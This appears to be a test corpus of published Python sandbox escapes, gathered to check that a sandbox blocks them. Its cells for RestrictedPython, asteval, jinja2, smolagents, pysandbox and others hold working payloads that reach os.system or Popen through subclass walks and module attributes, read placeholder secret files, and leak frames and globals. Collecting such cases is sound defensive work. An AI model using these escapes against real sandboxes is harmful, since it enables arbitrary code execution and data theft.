"""Escapes that were published, of RestrictedPython and other sandboxes, in the form that they would have here."""
#: goal: what it tries, by which it is judged (`attacks.py` says what there is)

if __name__: raise SystemExit("these programs may do harm: `python -m tests.corpus FILE::NAME` runs one shut in")

# %% RestrictedPython 2023-37271: the stack of a generator expression
#: goal: sees
g = (g.gi_frame.f_back.f_back.f_globals for _ in [1])
print([*g])

# %% RestrictedPython 2023-41039: format of str, as a method of the class
#: goal: sees
def f(): pass
print(str.format('{0.__globals__}', f), str.format_map('{x.__globals__}', {'x': f}))

# %% RestrictedPython 2024-47532: the object of an AttributeError
#: goal: sees
import torch
try:
    torch.nn.nothing_of_this_name
except AttributeError as e:
    print(e.obj, e.name)

# %% RestrictedPython 2024-47532: the module of a string's formatter
#: goal: sees
import string
try:
    string.Formatter().get_field('0.x', (string,), {})
except AttributeError as e:
    print(e.obj)

# %% RestrictedPython 2025-22153: type confusion with except star
#: goal: sees
class A(Exception):
    def __class_getitem__(cls, x): return cls
class B:
    def derive(self, x): return self
try:
    raise ExceptionGroup('x', [AttributeError('a', obj=1)])
except* AttributeError as e:
    print(e.exceptions[0].__traceback__.tb_frame)

# %% RestrictedPython 2026-55830: guards as parameters by position only
#: goal: marks
def outer():
    def inner(__write__, __read__, /):
        import json
        json.dumps = lambda x: 'REACHED'
        return json.dumps(1)
    return inner
print(outer()(lambda *a: a[0], lambda *a: a[0]))

# %% RestrictedPython 2021-32807: string's formatter
#: goal: sees
from string import Formatter
class F(Formatter):
    def get_field(self, *a): return super().get_field(*a)
def f(): pass
print(F().format('{0.__globals__}', f))

# %% RestrictedPython: random's modules
#: goal: sees
import random
print(random._os, random._inst.__class__.__init__.__globals__)

# %% RestrictedPython: a star import hides names
#: goal: marks
from math import *
from builtins import *
print('REACHED', open)

# %% asteval: reduce of a printer
#: goal: reads
red = print.__reduce__()
print(red[0](red[1][0], 'open')('@SECRET@').read())

# %% asteval: the body of a procedure
#: goal: marks
def f(): pass
f.body = 'REACHED'
f.__code__ = 1
print(f.body)

# %% asteval: numpy's files
#: goal: reads
from numpy import loadtxt, fromfile
print(loadtxt('@SECRET@', dtype=str))

# %% asteval: a type's third argument by type of a string
#: goal: marks
t = type(type(''))
print(t('X', (str,), {'__getattribute__': lambda self, name: 'REACHED'})().x)

# %% asteval: an f-string reads attributes
#: goal: sees
def f(): pass
print(f"{f.__globals__['__builtins__']}", f'{f!r:{f.__class__}}')

# %% simpleeval: a module among the functions
#: goal: sees
import math
print(math.__loader__, math.__spec__)

# %% simpleeval: a format with an index
#: goal: sees
def f(): pass
print('{0[0].__globals__}'.format([f]))

# %% simpleeval: attributes of a generator
#: goal: sees
print((x for x in [1]).gi_frame.f_builtins)

# %% jinja2: format by format_map
#: goal: sees
def f(): pass
print('{x.__class__.__mro__}{x.__globals__}'.format_map({'x': f}))

# %% jinja2: format by a reference that is stored
#: goal: sees
def f(): pass
m = {}
m['f'] = '{0.__globals__}'.format
print(m['f'](f))

# %% jinja2: format by a filter that reads attributes
#: goal: sees
def f(): pass
print(list(map(lambda s: getattr(s, 'format')(f), ['{0.__globals__}'])))

# %% jinja2: attributes by index
#: goal: sees
def f(): pass
class A(dict): pass
print('{0[__globals__]}'.format(f))

# %% jinja2: subclasses by a loop
#: goal: starts
for c in [].__class__.__mro__[1].__subclasses__():
    if 'warning' in c.__name__:
        c()._module.__builtins__['__import__']('os').system('touch @TARGET@')

# %% smolagents 2025-9959: subclasses to Popen
#: goal: starts
classes = {}.__class__.__base__.__subclasses__()
Popen = [c for c in classes if c.__name__ == 'Popen'][0]
Popen(['touch', '@TARGET@'])

# %% smolagents 2025-5120: modules within modules
#: goal: starts
import random
random._os.system('touch @TARGET@')

# %% smolagents: queue leads to threading and os
#: goal: starts
import queue
queue.threading._os.system('touch @TARGET@')

# %% smolagents: statistics leads to sys
#: goal: sees
import statistics
print(statistics.sys.modules, statistics.random)

# %% smolagents: numpy writes a file
#: goal: writes
import numpy as np
np.array([1]).tofile('@TARGET@')

# %% smolagents: methods that Python calls by itself
#: goal: sees
class A:
    def __del__(self): print(vars(), __builtins__)
    def __eq__(self, other): print(globals().keys()); return True
    def __getattribute__(self, name): print(__import__('os'))
a = A()
a == a
del a

# %% smolagents: a decorator is a class
#: goal: marks
class A:
    def __new__(cls, f): return 'REACHED', f.__globals__
@A
def f(): pass
print(f)

# %% crewai: the dict of type with a name put together
#: goal: starts
f = type.__dict__['__sub' + 'classes__']
for c in f(object):
    if c.__name__ == 'BuiltinImporter':
        c.load_module('posix').system('touch @TARGET@')

# %% code servers: sys.modules by a class's module
#: goal: starts
import sys
sys.modules['os'].system('touch @TARGET@')

# %% code servers: warnings lead to sys
#: goal: sees
import warnings
print(warnings.catch_warnings()._module.sys.modules)

# %% vm of formulas: codecs lead to builtins
#: goal: sees
import codecs
print(codecs.__builtins__, codecs.builtins)

# %% pandas query: an at sign
#: goal: marks
import pandas
print('REACHED', pandas.eval('@pandas.compat.os'))

# %% numexpr: evaluates a text
#: goal: marks
import numexpr
print('REACHED', numexpr.evaluate('1'))

# %% sympy: evaluates a text
#: goal: marks
import sympy
print('REACHED', sympy.sympify('1'))

# %% pyodide: the page
#: goal: marks
import js, pyodide
print('REACHED', js.document)

# %% pysandbox: a traceback of an error in a generator
#: goal: sees
def g():
    try: yield
    except Exception as e: print(e.__traceback__.tb_frame.f_back)
x = g()
next(x)
x.throw(ValueError())

# %% pysandbox: a frame by throwing a traceback
#: goal: sees
def g(): yield
x = g()
try:
    x.throw(ValueError, ValueError(), 1)
except TypeError as e:
    print(e.__traceback__.tb_frame)

# %% pysandbox: real built-ins through a method's globals
#: goal: sees
import collections
print(collections.OrderedDict.fromkeys.__func__.__globals__, collections.Counter.update.__globals__)

# %% pysandbox: a dict that leads to the real one
#: goal: marks
class D(dict): pass
d = D()
dict.__init__(d, x='REACHED')
dict.__setitem__(vars(dict), 'get', 1)
print(d)

# %% zope: a name that changes between check and use
#: goal: sees
class S(str):
    n = 0
    def startswith(self, *a): return False
    def __eq__(self, other): return False
    __hash__ = str.__hash__
def f(): pass
print(getattr(f, S('__globals__')))

# %% zope: a hash that changes between check and use
#: goal: memory
import numpy as np, torch
class S(str):
    def __hash__(self): return 1
    def __getitem__(self, k): return S('a')
m = torch.nn.Module()
setattr(m, S('__array_interface__'), 1)
print('REACHED')

# %% plone: attributes by traversal
#: goal: sees
import functools
def f(): pass
print(functools.reduce(getattr, ['__globals__', '__builtins__'], f))

# %% grist: a guard replaced by a global
#: goal: marks
global __read__
def f():
    global __read__
    __read__ = print
f()
print('REACHED')

# %% langflow: code runs in a default and a decorator
#: goal: reads
@exec('print(open("@SECRET@").read())')
def f(x=exec('print(open("@SECRET@").read())')): pass
